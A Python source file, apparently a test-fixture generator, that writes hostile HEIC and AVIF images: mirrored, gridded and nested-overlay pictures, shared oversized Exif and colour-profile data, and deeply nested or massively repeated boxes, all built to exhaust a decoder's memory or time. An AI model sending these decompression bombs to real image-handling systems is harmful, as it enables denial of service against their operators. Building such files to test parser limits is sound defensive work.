"""Write hostile HEIC and AVIF files box by box (ISO/IEC 14496-12 and 23008-12). Each function writes one file."""

import struct
import zlib
from base64 import b85decode
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from functools import partial
from pathlib import Path

# Grey pictures of 64 and of 8192 pixels on each side, as x265 writes them: the configuration (hvcC) and the picture.
SMALL_CONFIGURATION = bytes.fromhex(
    "0103700000009000000000001ef000fcfdf8f800000f03600001001840010c01ffff03700000030090000003000003001eba024061000100"
    "2b42010103700000030090000003000003001ea020810596ea4929ae6e021a0c0800000300c800000300084062000100074401c172b02240"
)
SMALL_PICTURE = bytes.fromhex("0000000a2801af0418fc4ad79bc0")
LARGE_CONFIGURATION = bytes.fromhex(
    "010370000000900000000000bdf000fcfdf8f800000f03600001001840010c01ffff0370000003009000000300000300bdba024061000100"
    "2d4201010370000003009000000300000300bda0004002000800596ea4929ae6e021a0c08000000c80000003008462000100074401c172b06240"
)
LARGE_PICTURE = zlib.decompress(
    b85decode(
        "c-rmO&niT56u|M{{OQJGa+@fHF<Hq<O|qDhW+fK3Hm1uH%o3|1k!*zQuFN!xStw+|j^rJz%#%pwDdwBzdpi41=bSp{giw8&&phPg"
        "I9o3D>h;phcR$iJ-5zu#KkHxnmv48~kIrT*gxsKWIcXmr7i(v`fSn(|Dn>B?hta)Lg6-$*A_N!KAo#b*z|l10PBs{~_RhHH%zQIT"
        "2%Eh@*xU)hMxV%X?h@+Q2%%0~5b6|ibmz*1x`3z^L|sV;bpts(TdRb+gVfqU)B~i$N60(DJTcdZdW)znMC~H#{Sc{-i2AIms`_u#"
        "7gbeNRaI40RaI40RaI40RaI40RaI40RaI40RaI40RaI40Rn;L?Uz>l}*8s%"
    )
)
SMALL, LARGE = 64, 8192

GRID, OVERLAY = b"grid", b"iovl"

Reference = tuple[bytes, int, Sequence[int]]


@dataclass(frozen=True, slots=True)
class Item:
    """`extents` are (offset, length) in the bytes that all items share; `properties` count from 1, as in the file."""

    number: int
    kind: bytes
    extents: tuple[tuple[int, int], ...]
    properties: tuple[int, ...] = ()
    mime: bytes = b""


def box(kind: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I4s", 8 + len(content), kind) + content


def full_box(kind: bytes, version: int, *parts: bytes, flags: int = 0) -> bytes:
    return box(kind, struct.pack(">I", version << 24 | flags), *parts)


def size_of(width: int, height: int) -> bytes:
    return full_box(b"ispe", 0, struct.pack(">II", width, height))


def heif(
    items: Sequence[Item],
    properties: Sequence[bytes],
    shared: bytes,
    references: Sequence[Reference] = (),
    *,
    brand: bytes = b"heic",
) -> bytes:
    """A HEIF file whose first item is the photo."""
    described = b"".join(
        full_box(b"infe", 2, struct.pack(">HH4s", item.number, 0, item.kind), b"\0", item.mime) for item in items
    )
    places = b"".join(
        struct.pack(">HHHH", item.number, 1, 0, len(item.extents))
        + b"".join(struct.pack(">II", *extent) for extent in item.extents)
        for item in items
    )
    owned = b"".join(
        struct.pack(">HB", item.number, len(item.properties)) + bytes(item.properties)
        for item in items
        if item.properties
    )
    owners = sum(bool(item.properties) for item in items)
    pointers = b"".join(
        box(kind, struct.pack(f">HH{len(to)}H", source, len(to), *to)) for kind, source, to in references
    )
    return box(b"ftyp", brand, bytes(4), b"mif1", brand) + full_box(
        b"meta",
        0,
        full_box(b"hdlr", 0, bytes(4), b"pict", bytes(13)),
        full_box(b"pitm", 0, struct.pack(">H", items[0].number)),
        full_box(b"iinf", 0, struct.pack(">H", len(items)), described),
        full_box(b"iref", 0, pointers),
        box(b"iprp", box(b"ipco", *properties), full_box(b"ipma", 0, struct.pack(">I", owners), owned)),
        full_box(b"iloc", 1, b"\x44\0", struct.pack(">H", len(items)), places),
        box(b"idat", shared),
    )


def pictures(path: Path, *, times: int = 1, mirrors: int = 0, profile: int = 0) -> None:
    """`times` pictures, each of which is the large one with `mirrors` mirrors, or the small one with a profile of
    `profile` bytes.
    """
    large = (LARGE_CONFIGURATION, LARGE_PICTURE, LARGE)
    configuration, data, side = large if mirrors else (SMALL_CONFIGURATION, SMALL_PICTURE, SMALL)
    extra = box(b"imir", b"\1") if mirrors else box(b"colr", b"prof", bytes(profile))
    own = (1, 2, *[3] * (mirrors or 1))
    items = [Item(number + 1, b"hvc1", ((0, len(data)),), own) for number in range(times)]
    path.write_bytes(heif(items, [box(b"hvcC", configuration), size_of(side, side), extra], data))


def made_of(path: Path, kind: bytes, rows: int, columns: int, side: int = SMALL) -> None:
    """A picture of `side` pixels that declares a small size and is composed of large ones, all at the same place."""
    parts = range(2, rows * columns + 2)
    grid = struct.pack(">BBBBHH", 0, 0, rows - 1, columns - 1, side, side)
    head = struct.pack(">BB4HHH", 0, 0, 0, 0, 0, 0, side, side) + bytes(8 * len(parts)) if kind == OVERLAY else grid
    end = len(LARGE_PICTURE)
    items = [Item(1, kind, ((end, len(head)),), (3,)), *(Item(part, b"hvc1", ((0, end),), (1, 2)) for part in parts)]
    properties = [box(b"hvcC", LARGE_CONFIGURATION), size_of(LARGE, LARGE), size_of(SMALL, SMALL)]
    path.write_bytes(heif(items, properties, LARGE_PICTURE + head, [(b"dimg", 1, parts)]))


def levels(path: Path, depth: int, width: int) -> None:
    """Each overlay shows all overlays of the next level, so that the work grows exponentially with the number of
    levels.
    """
    head = struct.pack(">BB4HHH", 0, 0, 0, 0, 0, 0, SMALL, SMALL) + bytes(8 * width)
    end = len(SMALL_PICTURE)
    drawn, last = ((OVERLAY, ((end, len(head)),), (2,)), (b"hvc1", ((0, end),), (1, 2)))
    items, references, above = [Item(1, *drawn)], [], [1]
    for level in range(depth):
        below = [2 + level * width + number for number in range(width)]
        references += [(b"dimg", number, below) for number in above]
        items += [Item(number, *(last if level == depth - 1 else drawn)) for number in below]
        above = below
    properties = [box(b"hvcC", SMALL_CONFIGURATION), size_of(SMALL, SMALL)]
    path.write_bytes(heif(items, properties, SMALL_PICTURE + head, references))


def described(path: Path, blocks: int, size: int) -> None:
    """Exif blocks that all point to the same bytes."""
    end, numbers = len(SMALL_PICTURE), range(2, blocks + 2)
    items = [Item(1, b"hvc1", ((0, end),), (1, 2)), *(Item(number, b"Exif", ((end, size),)) for number in numbers)]
    properties = [box(b"hvcC", SMALL_CONFIGURATION), size_of(SMALL, SMALL)]
    path.write_bytes(heif(items, properties, SMALL_PICTURE + bytes(size), [(b"cdsc", at, [1]) for at in numbers]))


def many_boxes(path: Path, brand: bytes, count: int, *, nested: bool) -> None:
    inner = b"".join(struct.pack(">I4s", 8 * (count - level), b"iprp") for level in range(count)) if nested else b""
    path.write_bytes(
        box(b"ftyp", brand, bytes(4), b"mif1", brand) + full_box(b"meta", 0, inner or box(b"free") * count)
    )


HEIF_BOMBS: Mapping[str, Callable[[Path], object]] = {
    "250-mirrors-of-67-megapixels.heic": partial(pictures, mirrors=250),
    "grid-of-990-pictures-of-67-megapixels.heic": partial(made_of, kind=GRID, rows=30, columns=33),
    "overlay-of-990-pictures-of-67-megapixels.heic": partial(made_of, kind=OVERLAY, rows=30, columns=33),
    "canvas-of-900-megapixels.heic": partial(made_of, kind=OVERLAY, rows=1, columns=1, side=30_000),
    "20-levels-of-4-overlays.heic": partial(levels, depth=20, width=4),
    "900-exif-blocks-of-10-mb.heic": partial(described, blocks=900, size=10_000_000),
    "900-pictures-with-a-profile-of-20-mb.heic": partial(pictures, profile=20_000_000, times=900),
    "100000-boxes-in-each-other.heic": partial(many_boxes, brand=b"heic", count=100_000, nested=True),
    "5-million-boxes.avif": partial(many_boxes, brand=b"avif", count=5_000_000, nested=False),
}
